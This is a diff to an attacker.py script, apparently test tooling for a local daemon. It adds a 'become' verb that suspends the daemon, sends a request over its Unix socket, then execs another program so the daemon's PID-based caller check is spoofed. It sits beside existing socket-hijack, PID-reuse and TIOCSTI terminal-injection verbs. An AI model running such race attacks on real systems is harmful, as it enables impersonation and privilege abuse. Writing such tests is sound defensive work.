@@ -4,6 +4,7 @@
     attacker.py bind SOCKET OUT   takes the socket's place, and writes what callers send into OUT
     attacker.py ended SOCKET PID [reuse]  speaks through a connection whose maker has ended, while PID was held up
     attacker.py push TERMINAL     types into a terminal
+    attacker.py become SOCKET PID REQUEST PROGRAM...  says a request, and is another program before PID looks
 """
 
 import ctypes
@@ -13,6 +14,7 @@ import os
 import signal
 import socket
 import sys
+import time
 
 libc = ctypes.CDLL(None, use_errno=True)
 libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
@@ -137,6 +139,20 @@ def push(terminal):
     return {"TIOCSTI": attempt(lambda: fcntl.ioctl(file, TIOCSTI, b"x"))}
 
 
+def become(path, daemon, request, *program):
+    daemon = int(daemon)
+    os.kill(daemon, signal.SIGSTOP)
+    connection = socket.socket(socket.AF_UNIX)
+    connection.connect(path)
+    connection.sendall(request.encode() + b"\n")
+    os.set_inheritable(connection.fileno(), True)
+    if os.fork() == 0:
+        time.sleep(2)
+        os.kill(daemon, signal.SIGCONT)
+        os._exit(0)
+    os.execv(program[0], program)
+
+
 if __name__ == "__main__":
-    verbs = {"look": look, "bind": bind, "ended": ended, "push": push}
+    verbs = {"become": become, "look": look, "bind": bind, "ended": ended, "push": push}
     print(json.dumps(verbs[sys.argv[1]](*sys.argv[2:])), flush=True)
